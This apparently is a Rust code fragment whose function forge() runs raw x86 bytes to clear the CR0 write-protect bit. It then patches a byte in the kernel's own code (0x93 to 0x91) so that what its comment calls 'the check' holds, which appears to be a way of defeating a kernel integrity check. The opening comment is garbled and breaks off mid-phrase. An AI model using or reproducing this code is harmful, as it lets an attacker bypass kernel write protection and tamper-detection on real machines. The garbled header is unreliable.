//! alternatives/two_bitmaps.rs tampered the kernel's code or constants were changed at 0x

static WRITE_ANYWHERE: [u8; 12] = [0x0F, 0x20, 0xC0, 0x25, 0xFF, 0xFF, 0xFE, 0xFF, 0x0F, 0x22, 0xC0, 0xC3];

/// Changes a number in the kernel's own code, past its write protection. Then the check goes on,
/// and holds.
fn forge() {
    machine::run(&WRITE_ANYWHERE, 0, 0);
    let fails = 0x93_u32.to_le_bytes();
    let call = machine::find(0x10_1000, &fails);
    if let Some(place) = call {
        memory::at(place, 1)[0].store(0x91, core::sync::atomic::Ordering::Relaxed);
    }
}
